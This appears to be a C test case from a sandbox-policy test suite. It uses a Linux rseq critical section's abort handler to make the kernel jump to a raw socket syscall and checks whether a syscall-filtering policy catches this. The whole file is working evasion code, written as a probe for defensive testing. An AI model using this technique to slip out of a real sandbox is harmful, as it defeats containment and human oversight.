/*
 * claim: has the kernel move it onto a forbidden call by an rseq critical section's abort
 * class: abi
 * bare: 1
 * compute: policy-violation socket
 * needs: rseq
 * see: pitfalls 55
 */
#include "attack.h"
#include <sys/rseq.h>
#include <sys/time.h>

/*
 * The section spins with a socket call's registers loaded; a timer's signal
 * makes the kernel set the instruction pointer to the abort handler, which is
 * a bare syscall instruction behind the expected signature.
 */
struct cs {
	unsigned version, flags;
	unsigned long start, length, abort;
};

static void nothing(int sig)
{
	(void)sig;
}

int main(void)
{
	extern const char cs_start[], cs_end[], cs_abort[];
	static struct cs cs __attribute__((aligned(32)));
	struct itimerval it = { { 0, 20000 }, { 0, 20000 } };
	struct rseq *area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
	long fd;

	if (__rseq_size == 0)
		contained("no rseq area is registered");
	cs.start = (unsigned long)cs_start;
	cs.length = (unsigned long)(cs_end - cs_start);
	cs.abort = (unsigned long)cs_abort;
	signal(SIGALRM, nothing);
	setitimer(ITIMER_REAL, &it, 0);
	*(volatile unsigned long *)((char *)area + offsetof(struct rseq, rseq_cs)) = (unsigned long)&cs;
	__asm__ volatile(".globl cs_start, cs_end, cs_abort\n"
			 "cs_start:\n\t"
			 "mov $41, %%eax\n\t"
			 "mov $1, %%edi\n\t"
			 "mov $1, %%esi\n\t"
			 "xor %%edx, %%edx\n\t"
			 "1: pause\n\t"
			 "jmp 1b\n"
			 "cs_end:\n\t"
			 ".byte 0x0f, 0xb9, 0x3d\n\t" /* ud1, which holds the signature */
			 ".long 0x53053053\n"
			 "cs_abort:\n\t"
			 "mov $41, %%eax\n\t"
			 "mov $1, %%edi\n\t"
			 "mov $1, %%esi\n\t"
			 "xor %%edx, %%edx\n\t"
			 "syscall\n\t"
			 : "=a"(fd)
			 :
			 : "rdi", "rsi", "rdx", "rcx", "r11", "memory");
	errno = (int)-fd;
	settle(fd, "an aborted section made a socket");
}
